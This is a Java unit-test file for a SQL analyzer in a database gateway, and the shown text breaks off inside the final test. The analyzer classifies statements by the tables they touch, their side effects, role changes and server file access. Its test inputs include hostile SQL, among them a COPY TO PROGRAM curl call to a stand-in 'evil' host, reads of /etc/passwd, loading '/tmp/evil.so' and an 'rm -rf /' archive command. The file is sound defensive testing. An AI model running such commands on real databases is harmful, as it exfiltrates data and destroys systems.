package dev.portcullis.gateway.sql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

class SqlAnalyzerTest {

  private static final SqlAnalyzer PG = SqlAnalyzer.postgres();
  private static final SqlAnalyzer MY = SqlAnalyzer.mysql("shop");

  private static StatementInfo pg(String sql) {
    List<StatementInfo> all = PG.analyze(sql);
    assertEquals(1, all.size(), () -> "expected one statement in " + sql + " but got " + all);
    return all.get(0);
  }

  private static StatementInfo my(String sql) {
    List<StatementInfo> all = MY.analyze(sql);
    assertEquals(1, all.size(), () -> "expected one statement in " + sql + " but got " + all);
    return all.get(0);
  }

  private static void assertUnknown(StatementInfo s) {
    assertEquals("unknown", s.type(), () -> "expected unknown: " + s);
    assertNotNull(s.error());
  }

  @Nested
  class Queries {
    @Test
    void selectReportsQualifiedTablesColumnsFunctionsAndWhere() {
      StatementInfo s = pg("SELECT lower(c.email), o.total FROM customers c JOIN sales.orders o ON o.cid = c.id"
          + " WHERE c.id = $1");
      assertEquals("select", s.type());
      assertEquals(List.of("public.customers", "sales.orders"), s.tablesRead());
      assertEquals(List.of(), s.tablesWritten());
      assertTrue(s.columns().containsAll(List.of("email", "total", "cid", "id")));
      assertEquals(List.of("lower"), s.functions());
      assertTrue(s.hasWhere());
      assertFalse(s.sideEffects() || s.roleChange() || s.serverFileAccess());
      assertNull(s.error());
    }

    @Test
    void contractExampleMatchesFieldForField() {
      ObjectNode json = pg("SELECT email FROM customers").toJson();
      assertEquals("{\"text\":\"SELECT email FROM customers\",\"type\":\"select\","
          + "\"tables_read\":[\"public.customers\"],\"tables_written\":[],\"columns\":[\"email\"],"
          + "\"has_where\":false,\"functions\":[],\"side_effects\":false,\"role_change\":false,"
          + "\"server_file_access\":false,\"error\":null}", json.toString());
    }

    @Test
    void caseGamesAndQuotedNamesFollowPostgresFolding() {
      StatementInfo s = pg("sElEcT \"Email\" FrOm \"Shop\".\"Customers\", CUSTOMERS");
      assertEquals("select", s.type());
      assertEquals(List.of("Shop.Customers", "public.customers"), s.tablesRead());
      assertEquals(List.of("Email"), s.columns());
    }

    @Test
    void starIsReportedAsAColumn() {
      assertEquals(List.of("*"), pg("SELECT * FROM t").columns());
      assertEquals(List.of("*"), pg("SELECT c.* FROM t c").columns());
      StatementInfo table = pg("TABLE customers");
      assertEquals("select", table.type());
      assertEquals(List.of("public.customers"), table.tablesRead());
      assertEquals(List.of("*"), table.columns());
    }

    @Test
    void unqualifiedCatalogNamesResolveToPgCatalog() {
      assertEquals(List.of("pg_catalog.pg_authid"), pg("SELECT rolpassword FROM pg_authid").tablesRead());
      assertEquals(List.of("information_schema.tables"),
          pg("SELECT * FROM information_schema.tables").tablesRead());
    }

    @Test
    void subqueriesUnionsAndLateralJoinsAreAllRead() {
      StatementInfo s = pg("SELECT a FROM t1 WHERE a IN (SELECT b FROM t2) UNION SELECT c FROM t3, "
          + "LATERAL (SELECT d FROM t4) x");
      assertEquals(List.of("public.t1", "public.t2", "public.t3", "public.t4"), s.tablesRead());
      assertFalse(s.hasWhere(), "one branch of the union has no WHERE");
    }

    @Test
    void cteNamesAreNotTablesButShadowedNamesInsideTheirOwnBodyAre() {
      StatementInfo s = pg("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent");
      assertEquals(List.of("public.orders"), s.tablesRead());
      StatementInfo shadow = pg("WITH customers AS (SELECT * FROM customers) SELECT * FROM customers");
      assertEquals(List.of("public.customers"), shadow.tablesRead());
      StatementInfo escaping = pg("SELECT * FROM customers, (WITH customers AS (SELECT 1) "
          + "SELECT * FROM customers) s");
      assertEquals(List.of("public.customers"), escaping.tablesRead(),
          "a CTE defined in a subquery does not hide the outer table");
    }

    @Test
    void parametersOfBothProtocolsParse() {
      assertEquals("select", pg("SELECT * FROM t WHERE id = $1 AND x = $2::int").type());
      assertEquals("select", my("SELECT * FROM t WHERE id = ?").type());
    }

    @Test
    void psqlCatalogQueriesWithQualifiedOperatorsAndCollationsParse() {
      StatementInfo s = pg("SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c "
          + "LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace "
          + "WHERE c.relname OPERATOR(pg_catalog.~) '^(customers)$' COLLATE pg_catalog.default "
          + "AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3");
      assertEquals("select", s.type(), s::toString);
      assertEquals(List.of("pg_catalog.pg_class", "pg_catalog.pg_namespace"), s.tablesRead());
      assertEquals(List.of("pg_table_is_visible"), s.functions());
    }

    @Test
    void repeatedShapesWithDifferentLiteralsKeepTheirOwnLiteralDependentFacts() {
      SqlAnalyzer analyzer = SqlAnalyzer.postgres();
      assertEquals(List.of("public.a"), analyzer.analyze("SELECT nextval('a')").get(0).tablesWritten());
      assertEquals(List.of("public.b"), analyzer.analyze("SELECT nextval('b')").get(0).tablesWritten());
      assertFalse(analyzer.analyze("SELECT set_config('app.x', '1', false)").get(0).roleChange());
      assertTrue(analyzer.analyze("SELECT set_config('role', '1', false)").get(0).roleChange());
      StatementInfo first = analyzer.analyze("SELECT * FROM t WHERE id = 1").get(0);
      StatementInfo second = analyzer.analyze("SELECT * FROM t WHERE id = 2").get(0);
      assertEquals("SELECT * FROM t WHERE id = 2", second.text());
      assertEquals(first.tablesRead(), second.tablesRead());
      List<StatementInfo> ctes = analyzer.analyze("WITH t AS (SELECT 1) SELECT * FROM t WHERE id = 3");
      assertEquals(List.of(), ctes.get(0).tablesRead(), "a cached plain query must not leak into CTE scope");
    }

    @Test
    void selectIntoIsAWrite() {
      StatementInfo s = pg("SELECT * INTO backup FROM customers");
      assertEquals("select", s.type());
      assertEquals(List.of("public.backup"), s.tablesWritten());
      assertEquals(List.of("public.customers"), s.tablesRead());
      assertTrue(s.sideEffects());
    }
  }

  @Nested
  class Writes {
    @Test
    void dmlTargetsAreWrittenAndSourcesRead() {
      StatementInfo ins = pg("INSERT INTO audit (a) SELECT a FROM src");
      assertEquals("insert", ins.type());
      assertEquals(List.of("public.audit"), ins.tablesWritten());
      assertEquals(List.of("public.src"), ins.tablesRead());

      StatementInfo upd = pg("UPDATE accounts SET balance = 0 FROM flagged f WHERE f.id = accounts.id");
      assertEquals("update", upd.type());
      assertEquals(List.of("public.accounts"), upd.tablesWritten());
      assertEquals(List.of("public.flagged"), upd.tablesRead());
      assertTrue(upd.hasWhere());

      StatementInfo del = pg("DELETE FROM customers");
      assertEquals("delete", del.type());
      assertFalse(del.hasWhere());
      assertEquals(List.of("public.customers"), del.tablesWritten());

      StatementInfo merge = pg("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1");
      assertEquals("merge", merge.type());
      assertEquals(List.of("public.t"), merge.tablesWritten());
    }

    @Test
    void writesHiddenInCtesAreSideEffectsOfTheSelect() {
      StatementInfo s = pg("WITH gone AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM gone");
      assertEquals("select", s.type());
      assertEquals(List.of("public.customers"), s.tablesWritten());
      assertTrue(s.sideEffects());

      StatementInfo nested = pg("WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING x), "
          + "c AS (INSERT INTO log SELECT * FROM b RETURNING 1) SELECT * FROM a, c");
      assertEquals(List.of("public.t", "public.log"), nested.tablesWritten());
      assertTrue(nested.sideEffects());
    }

    @Test
    void withFeedingAWriteIsThatWrite() {
      StatementInfo s = pg("WITH ids AS (SELECT id FROM stale) DELETE FROM t WHERE id IN (SELECT id FROM ids)");
      assertEquals("delete", s.type());
      assertEquals(List.of("public.t"), s.tablesWritten());
      assertEquals(List.of("public.stale"), s.tablesRead());
      assertTrue(s.hasWhere());
    }

    @Test
    void sequencesAdvancedByNextvalAreWritten() {
      StatementInfo s = pg("SELECT nextval('app.order_seq')");
      assertEquals(List.of("app.order_seq"), s.tablesWritten());
      assertTrue(s.sideEffects());
    }
  }

  @Nested
  class Explain {
    @Test
    void explainAnalyzeOfAWriteRunsIt() {
      StatementInfo s = pg("EXPLAIN ANALYZE DELETE FROM customers");
      assertEquals("explain", s.type());
      assertEquals(List.of("public.customers"), s.tablesWritten());
      assertTrue(s.sideEffects());
      StatementInfo options = pg("explain (verbose, analyse true, buffers) UPDATE t SET a = 1");
      assertTrue(options.sideEffects());
      assertEquals(List.of("public.t"), options.tablesWritten());
    }

    @Test
    void plainExplainRunsNothing() {
      StatementInfo s = pg("EXPLAIN DELETE FROM customers");
      assertEquals("explain", s.type());
      assertEquals(List.of(), s.tablesWritten());
      assertFalse(s.sideEffects());
      assertFalse(pg("EXPLAIN (ANALYZE off) DELETE FROM t").sideEffects());
      assertEquals(List.of("public.t"), pg("EXPLAIN SELECT * FROM t").tablesRead());
    }

    @Test
    void mysqlExplainAnalyzeAndMariadbAnalyzeRunTheStatement() {
      assertTrue(my("EXPLAIN ANALYZE DELETE FROM t").sideEffects());
      StatementInfo maria = my("ANALYZE FORMAT=JSON UPDATE t SET a = 1");
      assertEquals("explain", maria.type());
      assertEquals(List.of("shop.t"), maria.tablesWritten());
      assertEquals("utility", my("ANALYZE TABLE t").type());
      StatementInfo describe = my("DESCRIBE customers");
      assertEquals("utility", describe.type());
      assertEquals(List.of("shop.customers"), describe.tablesRead());
    }
  }

  @Nested
  class PostgresOnlyStatements {
    @Test
    void copyDirectionAndTargets() {
      StatementInfo in = pg("COPY customers (id, email) FROM STDIN WITH (FORMAT csv)");
      assertEquals("copy", in.type());
      assertEquals(List.of("public.customers"), in.tablesWritten());
      assertEquals(List.of("id", "email"), in.columns());
      assertFalse(in.serverFileAccess());

      StatementInfo out = pg("COPY customers TO STDOUT");
      assertEquals(List.of("public.customers"), out.tablesRead());
      assertFalse(out.sideEffects());

      StatementInfo program = pg("COPY customers TO PROGRAM 'curl -d @- http://evil'");
      assertTrue(program.serverFileAccess());
      assertTrue(program.sideEffects());

      StatementInfo file = pg("copy t from '/etc/passwd'");
      assertTrue(file.serverFileAccess());
      assertEquals(List.of("public.t"), file.tablesWritten());

      StatementInfo query = pg("COPY (SELECT email FROM customers WHERE id > 1) TO STDOUT");
      assertEquals(List.of("public.customers"), query.tablesRead());
      assertTrue(query.hasWhere());

      StatementInfo deleting = pg("COPY (DELETE FROM t RETURNING *) TO STDOUT");
      assertEquals(List.of("public.t"), deleting.tablesWritten());
      assertTrue(deleting.sideEffects());
    }

    @Test
    void doBlocksAreSideEffects() {
      StatementInfo s = pg("DO $body$ BEGIN EXECUTE 'DROP TABLE x'; END $body$");
      assertEquals("do", s.type());
      assertTrue(s.sideEffects());
      assertEquals("do", pg("DO LANGUAGE plpgsql 'BEGIN NULL; END'").type());
    }

    @Test
    void prepareIsItsStatementAndExecuteResolvesItWithinTheRequest() {
      List<StatementInfo> all = PG.analyze("PREPARE wipe (int) AS DELETE FROM t WHERE id = $1; EXECUTE wipe(1)");
      assertEquals(2, all.size());
      assertEquals("delete", all.get(0).type());
      assertEquals(List.of("public.t"), all.get(0).tablesWritten());
      assertEquals("delete", all.get(1).type());
      assertEquals(List.of("public.t"), all.get(1).tablesWritten());
      assertEquals("EXECUTE wipe(1)", all.get(1).text());
    }

    @Test
    void executeOfAStatementPreparedElsewhereIsUnknown() {
      StatementInfo s = pg("EXECUTE mystery");
      assertUnknown(s);
      assertTrue(s.error().contains("mystery"));
    }

    @Test
    void cursorsReadWhatTheirQueryReads() {
      List<StatementInfo> all = PG.analyze("DECLARE c CURSOR WITH HOLD FOR SELECT email FROM customers; "
          + "FETCH 10 FROM c; CLOSE c");
      assertEquals("select", all.get(0).type());
      assertEquals("select", all.get(1).type());
      assertEquals(List.of("public.customers"), all.get(1).tablesRead());
      assertEquals("utility", all.get(2).type());
    }

    @Test
    void roleChanges() {
      for (String sql : List.of("SET ROLE postgres", "set local role admin", "SET SESSION AUTHORIZATION bob",
          "SET role = 'admin'", "SET \"role\" TO admin", "RESET ROLE", "RESET ALL",
          "RESET SESSION AUTHORIZATION", "SELECT set_config('role', 'admin', false)",
          "DISCARD ALL")) {
        assertTrue(pg(sql).roleChange(), sql);
      }
      assertFalse(pg("SET search_path = app").roleChange());
      assertEquals("set", pg("SET statement_timeout = '5s'").type());
      assertFalse(pg("SELECT set_config('app.tenant', '42', false)").roleChange());
      assertTrue(pg("SELECT set_config('app.tenant', '42', false)").sideEffects());
    }

    @Test
    void transactionControl() {
      for (String sql : List.of("BEGIN", "begin isolation level serializable", "START TRANSACTION READ ONLY",
          "COMMIT", "END", "ROLLBACK", "ABORT", "SAVEPOINT s1", "ROLLBACK TO SAVEPOINT s1",
          "RELEASE s1", "PREPARE TRANSACTION 'tx1'")) {
        assertEquals("transaction", pg(sql).type(), sql);
      }
      assertTrue(pg("COMMIT PREPARED 'tx1'").sideEffects());
    }

    @Test
    void utilities() {
      for (String sql : List.of("VACUUM FULL t", "ANALYZE t", "CHECKPOINT", "LISTEN ch", "NOTIFY ch, 'x'",
          "UNLISTEN *", "DISCARD PLANS", "SHOW search_path", "CLUSTER t", "REINDEX TABLE t",
          "DEALLOCATE ALL", "CLOSE ALL")) {
        assertEquals("utility", pg(sql).type(), sql);
      }
      StatementInfo lock = pg("LOCK TABLE a, ONLY app.b IN ACCESS EXCLUSIVE MODE");
      assertEquals(List.of("public.a", "app.b"), lock.tablesRead());
      StatementInfo load = pg("LOAD '/tmp/evil.so'");
      assertTrue(load.serverFileAccess());
    }

    @Test
    void ddlAndDcl() {
      StatementInfo create = pg("CREATE TABLE archive AS SELECT * FROM orders");
      assertEquals("ddl", create.type());
      assertEquals(List.of("public.archive"), create.tablesWritten());
      assertEquals(List.of("public.orders"), create.tablesRead());
      StatementInfo drop = pg("DROP TABLE IF EXISTS a, app.b CASCADE");
      assertEquals("ddl", drop.type());
      assertEquals(List.of("public.a", "app.b"), drop.tablesWritten());
      assertEquals(List.of("public.t"), pg("TRUNCATE TABLE ONLY t RESTART IDENTITY").tablesWritten());
      assertEquals(List.of("public.t"), pg("ALTER TABLE t ADD COLUMN c int").tablesWritten());
      StatementInfo view = pg("CREATE VIEW v AS SELECT email FROM customers");
      assertEquals(List.of("public.v"), view.tablesWritten());
      assertEquals(List.of("public.customers"), view.tablesRead());
      for (String sql : List.of("GRANT SELECT ON t TO bob", "REVOKE ALL ON t FROM bob",
          "CREATE ROLE admin SUPERUSER", "ALTER ROLE bob WITH PASSWORD 'x'", "DROP USER bob",
          "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "REASSIGN OWNED BY a TO b")) {
        assertEquals("dcl", pg(sql).type(), sql);
      }
      StatementInfo system = pg("ALTER SYSTEM SET archive_command = 'rm -rf /'");
      assertEquals("ddl", system.type());
      assertTrue(system.sideEffects());
    }

    @Test
    void callIsAProcedureCall() {
      StatementInfo s = pg("CALL app.cleanup(1, (SELECT max(id) FROM t))");
      assertEquals("call", s.type());
      assertTrue(s.functions().contains("app.cleanup"));
      assertEquals(List.of("public.t"), s.tablesRead());
      assertTrue(s.sideEffects());
    }
  }

  @Nested
  class SideEffectFunctions {
    @Test
    void adminFunctionsAreFlaggedHoweverTheyAreSpelled() {
      for (String sql : List.of("SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
          "SELECT PG_CATALOG.PG_CANCEL_BACKEND(1)", "SELECT \"pg_terminate_backend\"(1)",
          "SELECT pg_reload_conf()", "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
          "SELECT dblink_exec('x', 'drop table t')", "SELECT setval('s', 1)", "SELECT lo_unlink(1)",
          "SELECT pg_advisory_lock(1)", "SELECT query_to_xml('select * from secrets', true, true, '')")) {
        assertTrue(pg(sql).sideEffects(), sql);
      }
      assertFalse(pg("SELECT lower(x), now(), count(*) FROM t").sideEffects());
      assertEquals(List.of("pg_cancel_backend"), pg("SELECT PG_CATALOG.PG_CANCEL_BACKEND(1)").functions());
      assertEquals(List.of("app.pg_cancel_backend"), pg("SELECT app.pg_cancel_backend(1)").functions());
    }

    @Test
    void serverFileFunctions() {
      for (String sql : List.of("SELECT pg_read_file('/etc/passwd')", "SELECT pg_ls_dir('.')",
          "SELECT lo_import('/etc/passwd')", "SELECT lo_export(1, '/tmp/x')",
          "SELECT pg_read_binary_file('x')", "SELECT * FROM pg_ls_dir('/') WHERE true")) {
        StatementInfo s = pg(sql);
        assertTrue(s.serverFileAccess(), sql);
        assertTrue(s.sideEffects(), sql);
      }
    }
  }

  @Nested
  class Splitting {
    @Test
    void splitsOnSemicolonsOutsideQuotesAndComments() {
      List<StatementInfo> all = PG.analyze("SELECT 'a;b' FROM t; SELECT \"x;y\" FROM u -- ; DROP TABLE z\n;"
          + " /* ; DROP TABLE w; */ SELECT $$;$$, $tag$ $$; $tag$ FROM v;;");
      assertEquals(3, all.size(), all::toString);
      all.forEach(s -> assertEquals("select", s.type(), s::toString));
      assertEquals("SELECT 'a;b' FROM t", all.get(0).text());
      assertEquals(List.of("public.v"), all.get(2).tablesRead());
    }

    @Test
    void commentTricksDoNotHideStatements() {
      List<StatementInfo> all = PG.analyze("SELECT 1; /* */ DROP TABLE x");
      assertEquals(2, all.size());
      assertEquals("ddl", all.get(1).type());
      assertEquals(List.of("public.x"), all.get(1).tablesWritten());

      List<StatementInfo> nested = PG.analyze("SELECT 1 /* outer /* inner */ still comment; */; DELETE FROM t");
      assertEquals(2, nested.size());
      assertEquals("delete", nested.get(1).type());
    }

    @Test
    void commentOnlyAndEmptyInputHaveNoStatements() {
      assertEquals(List.of(), PG.analyze(""));
      assertEquals(List.of(), PG.analyze(" ; ;; -- nothing\n /* here */"));
    }

    @Test
    void unterminatedLiteralsAndCommentsAreUnknown() {
      for (String sql : List.of("SELECT 'abc", "SELECT \"abc", "SELECT $x$ abc", "SELECT 1 /* abc",
          "SELECT E'abc\\'")) {
        List<StatementInfo> all = PG.analyze(sql);
        assertUnknown(all.get(all.size() - 1));
      }
      List<StatementInfo> two = PG.analyze("SELECT 1; SELECT 'oops");
      assertEquals("select", two.get(0).type());
      assertUnknown(two.get(1));
    }

    @Test
    void backslashBeforeAQuoteIsAmbiguousAndRefused() {
      // with standard_conforming_strings off the server would read "; DROP TABLE t; --" as code
      List<StatementInfo> all = PG.analyze("SELECT '\\' ; ' ; DROP TABLE t; --'");
      assertEquals(1, all.size());
      assertUnknown(all.get(0));
      assertEquals("select", pg("SELECT 'C:\\path\\file' FROM t").type(), "no quote after the backslash");
      assertEquals("select", pg("SELECT E'it\\'s' FROM t").type(), "E strings always use backslashes");
    }

    @Test
    void dollarSignsInsideIdentifiersAreNotQuotes() {
      StatementInfo s = pg("SELECT a$b$ FROM t$1 WHERE x = $1");
      assertEquals("select", s.type());
      assertEquals(List.of("public.t$1"), s.tablesRead());
    }

    @Test
    void dashDashAndSlashSlashCannotHideTablesFromTheParser() {
      // MySQL reads 1--1 as 1 - -1; JSqlParser must not see a comment there
      StatementInfo s = my("SELECT 1--1 FROM secrets");
      assertEquals(List.of("shop.secrets"), s.tablesRead());
      StatementInfo slash = pg("SELECT 4 / /**/ / 2 FROM secrets");
      assertTrue(slash.type().equals("unknown") || slash.tablesRead().equals(List.of("public.secrets")),
          slash::toString);
    }

    @Test
    void unicodeEscapedIdentifiersAreUnknown() {
      assertUnknown(pg("SELECT * FROM U&\"cust\\006Fmers\""));
      assertEquals("select", pg("SELECT U&'\\0041' FROM t").type());
    }

    @Test
    void invisibleCharactersInNamesAreUnknown() {
      assertUnknown(pg("SELECT * FROM cust\u00A0omers"));
      assertUnknown(pg("SELECT * FROM cust\u200Bomers"));
      assertEquals(List.of("public.kunden_größe"), pg("SELECT * FROM kunden_größe").tablesRead());
    }
  }

  @Nested
  class Mysql {
    @Test
    void backticksDatabasesAndCurrentDatabase() {
      StatementInfo s = my("SELECT `Email` FROM `Shop`.`Customers` JOIN orders");
      assertEquals(List.of("shop.customers", "shop.orders"), s.tablesRead());
      assertEquals(List.of("customers"), SqlAnalyzer.mysql().analyze("SELECT * FROM customers").get(0)
          .tablesRead());
    }

    @Test
    void anotherCurrentDatabaseQualifiesUnqualifiedTables() {
      SqlAnalyzer other = MY.withDefaultSchema("Billing");
      assertEquals(List.of("billing.invoices", "shop.t"),
          other.analyze("SELECT * FROM invoices, shop.t").get(0).tablesRead());
      assertEquals(List.of("app.t"), PG.withDefaultSchema("app").analyze("TABLE t").get(0).tablesRead());
    }

    @Test
    void doubleQuotedStringsAndBackslashEscapesSplitCorrectly() {
      List<StatementInfo> all = MY.analyze("SELECT \"a;\\\"b\" FROM t; SELECT 'c\\';d' FROM u");
      assertEquals(2, all.size(), all::toString);
      assertEquals(List.of("shop.u"), all.get(1).tablesRead());
    }

    @Test
    void sqlModeThatCouldDisableBackslashEscapesIsRefused() {
      assertUnknown(my("SET sql_mode = 'ANSI,NO_BACKSLASH_ESCAPES'"));
      assertUnknown(my("SET SESSION sql_mode = CONCAT(@@sql_mode, ',no_backslash_escapes')"));
      assertUnknown(my("SET @@session.sql_mode = @mode"));
      assertUnknown(my("SET STATEMENT max_statement_time = 1 FOR DELETE FROM t"));
      assertEquals("set", my("SET sql_mode = 'STRICT_TRANS_TABLES'").type());
    }

    @Test
    void hashAndDashCommentsAndExecutableComments() {
      List<StatementInfo> all = MY.analyze("SELECT 1 # ; DROP TABLE x\n; SELECT 2 -- ; DROP TABLE y");
      assertEquals(2, all.size(), all::toString);
      assertUnknown(my("SELECT 1 /*! ; DROP TABLE x */"));
      assertUnknown(my("SELECT 1 /*M!100000 , load_file('/etc/passwd') */"));
    }

    @Test
    void mysqlSpecificStatements() {
      assertEquals("insert", my("REPLACE INTO t VALUES (1)").type());
      assertEquals("set", my("USE other").type());
      assertTrue(my("SET GLOBAL general_log = 1").sideEffects());
      assertTrue(my("SET @@global.sql_mode = ''").sideEffects());
      assertFalse(my("SET NAMES utf8mb4").sideEffects());
      assertTrue(my("SET ROLE ALL").roleChange());
      assertEquals("dcl", my("SET PASSWORD FOR bob = 'x'").type());
      assertEquals("dcl", my("CREATE USER bob IDENTIFIED BY 'x'").type());
      assertEquals("utility", my("SHOW TABLES").type());
      assertTrue(my("KILL 42").sideEffects());
      StatementInfo load = my("LOAD DATA INFILE '/etc/passwd' INTO TABLE t");
      assertEquals("copy", load.type());
      assertEquals(List.of("shop.t"), load.tablesWritten());
      assertTrue(load.serverFileAccess());
      assertFalse(my("LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t").serverFileAccess());
      assertTrue(my("SELECT load_file('/etc/passwd')").serverFileAccess());
      StatementInfo set = my("SET @a = (SELECT email FROM customers LIMIT 1)");
      assertEquals("set", set.type());
      assertEquals(List.of("shop.customers"), set.tablesRead());
    }

    @Test
    void multiTableDeleteWritesEveryTableItNames() {
      StatementInfo s = my("DELETE a FROM orders AS a JOIN customers c ON a.cid = c.id WHERE c.id = 1");
      assertEquals("delete", s.type());
      assertTrue(s.tablesWritten().contains("shop.orders"), s::toString);
    }

    @Test
    void prepareFromLiteralIsAnalyzedAndFromVariableIsUnknown() {
      List<StatementInfo> all = MY.analyze("PREPARE p FROM 'DELETE FROM t WHERE id = ?'; EXECUTE p USING @x");
      assertEquals("delete", all.get(0).type());
      assertEquals("delete", all.get(1).type());
      assertUnknown(my("PREPARE p FROM @sql"));
    }

    @Test
    void doEvaluatesExpressions() {
      StatementInfo s = my("DO get_lock('x', 10)");
      assertEquals("do", s.type());
      assertTrue(s.sideEffects());
    }

    @Test
    void intoOutfileIsAServerFileWrite() {
      StatementInfo s = my("SELECT * FROM customers INTO OUTFILE '/tmp/x'");
      assertTrue(s.type().equals("unknown") || s.serverFileAccess(), s::toString);
    }
  }

  @Nested
  class HostileInput {
    @Test
    void neverThrowsOnGarbage() {
      String[] inputs = {"\u0000", "'", "\"", "$", "$$", "/*", "--", ";", "(((", ")))", "SELECT (", "@@@",
        "`", "E'", "U&\"", "\uD800", "SELECT * FROM t WHERE a = '\uFFFF'", "DO", "COPY", "EXPLAIN",
        "PREPARE", "EXECUTE", "WITH", "WITH x AS", "WITH x AS (", "WITH x AS (SELECT 1)", "SET", "CALL",
        "DECLARE c CURSOR", "FETCH", "DROP", "CREATE", "LOCK", "TRUNCATE", "EXPLAIN (", "COPY (SELECT 1)"};
      for (String input : inputs) {
        for (SqlAnalyzer a : List.of(PG, MY)) {
          List<StatementInfo> all = a.analyze(input);
          for (StatementInfo s : all) {
            assertNotNull(s.type(), input);
            if (s.type().equals("unknown")) {
              assertNotNull(s.error(), input);
            }
          }
        }
      }
    }

    @Test
    void randomlyMutatedSqlNeverThrows() {
      String[] corpus = {"SELECT a, lower(b) FROM t WHERE c = 'x;y' AND d = $1",
        "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "COPY (SELECT 1) TO STDOUT",
        "EXPLAIN (ANALYZE) UPDATE t SET a = E'\\'' WHERE b = $$q$$", "DO $f$ BEGIN END $f$; SET ROLE x",
        "SELECT `a` FROM b # c\n; LOAD DATA INFILE 'f' INTO TABLE t", "PREPARE p AS SELECT 1; EXECUTE p"};
      String alphabet = "'\"`$;()/*-#\\\nE&U@?.,:=[]{}0aZ \u00a0\u200b";
      java.util.Random random = new java.util.Random(42);
      for (int i = 0; i < 1_500; i++) {
        StringBuilder sql = new StringBuilder(corpus[random.nextInt(corpus.length)]);
        for (int m = random.nextInt(6); m >= 0; m--) {
          int at = random.nextInt(sql.length() + 1);
          switch (random.nextInt(3)) {
            case 0 -> sql.insert(at, alphabet.charAt(random.nextInt(alphabet.length())));
            case 1 -> {
              if (at < sql.length()) {
                sql.deleteCharAt(at);
              }
            }
            default -> sql.insert(at, corpus[random.nextInt(corpus.length)]);
          }
        }
        for (SqlAnalyzer a : List.of(PG, MY)) {
          for (StatementInfo s : a.analyze(sql.toString())) {
            assertTrue(s.type().equals("unknown") == (s.error() != null), s::toString);
          }
        }
      }
    }

    @Test
    void deepNestingIsUnknownNotACrash() {
      String deep = "SELECT " + "(".repeat(5000) + "1" + ")".repeat(5000);
      assertUnknown(pg(deep));
      String explains = "EXPLAIN ".repeat(50) + "SELECT 1";
      assertUnknown(pg(explains));
    }

    @Test
    void exponentialParsesAreCutOffAndTheirWorkerStopped() throws InterruptedException {
      // JSqlParser needs minutes for this; the analyzer gives up after its budget
      String sql = "SELECT " + "CASE WHEN (".repeat(12) + "x" + ") THEN 1 END".repeat(12);
      StatementInfo s = pg(sql);
      assertUnknown(s);
      assertTrue(s.error().contains("too complex"), s.error());
      long deadline = System.nanoTime() + java.util.concurrent.TimeUnit.SECONDS.toNanos(10);
      while (parsing() && System.nanoTime() < deadline) {
        Thread.sleep(50);
      }
      assertFalse(parsing(), "the stopped parse keeps burning CPU");
      assertEquals("select", pg("SELECT CASE WHEN (a > 1) THEN 1 END FROM t").type(), "workers still serve");
    }

    private static boolean parsing() {
      return Thread.getAllStackTraces().entrySet().stream()
          .filter(e -> e.getKey().getName().equals("portcullis-sql-parse"))
          .anyMatch(e -> java.util.Arrays.stream(e.getValue())
              .anyMatch(f -> f.getClassName().startsWith("net.sf.jsqlparser")));
    }

    @Test
    void oversizedInputIsOneUnknownStatement() {
      String huge = "SELECT 1;".repeat(SqlAnalyzer.MAX_QUERY_CHARS / 9 + 1);
      List<StatementInfo> all = PG.analyze(huge);
      assertEquals(1, all.size());
      assertUnknown(all.get(0));
      assertTrue(all.get(0).text().length() < 300);
    }

    @Test
    void tooManyStatementsEndWithAnUnknownOne() {
      List<StatementInfo> all = PG.analyze("SELECT 1;".repeat(SqlAnalyzer.MAX_STATEMENTS + 5));
      assertEquals(SqlAnalyzer.MAX_STATEMENTS + 1, all.size());
      assertUnknown(all.get(all.size() - 1));
    }

    @Test
    void subqueriesInArraySubscriptsAreNotHidden() {
      assertEquals(List.of("public.secret", "public.t"),
          pg("SELECT x[(SELECT count(*) FROM secret)] FROM t").tablesRead());
    }

    @Test
    void codeBlocksDressedAsTransactionControlAreUnknown() {
      List<StatementInfo> all = MY.analyze("BEGIN NOT ATOMIC DELETE FROM t; END");
      assertUnknown(all.get(0));
      assertUnknown(pg("BEGIN DELETE FROM t"));
      assertUnknown(my("SHOW TABLES WHERE (SELECT count(*) FROM secret) > 0"));
    }

    @Test
    void unparseableSqlIsUnknownWithTheParseError() {
      StatementInfo s = pg("SELECT FROM WHERE");
      assertUnknown(s);
      assertTrue(s.error().startsWith("parse error"), s.error());
      assertUnknown(pg("FROBNICATE everything"));
      assertUnknown(pg("123"));
    }
  }

  @Nested
  class WithoutParsing {
    @Test
    void aShapeNeverParsedNeedsTheParser() {
      SqlAnalyzer fresh = SqlAnalyzer.postgres();
      assertTrue(fresh.analyzeWithoutParsing("SELECT balance FROM accounts WHERE id = 7").isEmpty());
    }

    @Test
    void aShapeParsedBeforeIsAnalyzedAlikeWhateverItsLiterals() {
      SqlAnalyzer fresh = SqlAnalyzer.postgres();
      fresh.analyze("SELECT balance FROM accounts WHERE id = 7");
      String other = "SELECT balance FROM accounts WHERE id = 8";
      assertEquals(fresh.analyze(other), fresh.analyzeWithoutParsing(other).orElseThrow());
    }

    @Test
    void everyStatementOfTheTextMustBeKnown() {
      SqlAnalyzer fresh = SqlAnalyzer.postgres();
      fresh.analyze("SELECT balance FROM accounts WHERE id = 7");
      assertTrue(fresh.analyzeWithoutParsing("SELECT balance FROM accounts WHERE id = 7; DELETE FROM accounts").isEmpty());
    }

    @Test
    void statementsTheLexerClassifiesNeedNoParserAtAll() {
      SqlAnalyzer fresh = SqlAnalyzer.postgres();
